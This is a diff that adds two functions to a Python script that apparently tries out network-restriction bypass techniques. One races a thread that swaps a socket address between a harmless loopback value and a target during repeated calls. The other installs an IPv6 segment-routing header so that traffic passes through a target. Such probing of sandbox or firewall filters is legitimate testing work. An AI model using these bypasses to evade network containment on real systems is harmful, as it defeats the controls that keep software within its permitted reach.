@@ -88,6 +88,34 @@ def main(techniques):
     print(said, flush=True)
 
 
+def flip(sock, call):
+    """Calls with an address that another thread changes all the time, between a harmless one and the target."""
+    import threading
+    harmless, target = (struct.pack("=H", 2) + struct.pack("!H", PORT) + socket.inet_aton(address) + bytes(8)
+                        for address in ("127.0.0.9", V4))
+    address, stop = (ctypes.c_char * 16).from_buffer(bytearray(harmless)), threading.Event()
+
+    def change():
+        while not stop.is_set():
+            ctypes.memmove(address, target, 16)
+            ctypes.memmove(address, harmless, 16)
+
+    thread = threading.Thread(target=change, daemon=True)
+    thread.start()
+    for _ in range(300):
+        call(sock, address)
+    stop.set()
+    thread.join()
+
+
+def segment_route(sock):
+    """From now on what this IPv6 socket sends goes to the target first, and from there to whom it is addressed."""
+    IPV6_RTHDR, SEGMENTS = 57, 4
+    header = bytes([0, 4, SEGMENTS, 1, 1, 0, 0, 0]) + bytes(16) + socket.inet_pton(socket.AF_INET6, V6)
+    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, header)
+    return sock
+
+
 def syscall(number, *arguments):
     """A system call by number; raises OSError."""
     result = LIBC.syscall(ctypes.c_long(number), *arguments)
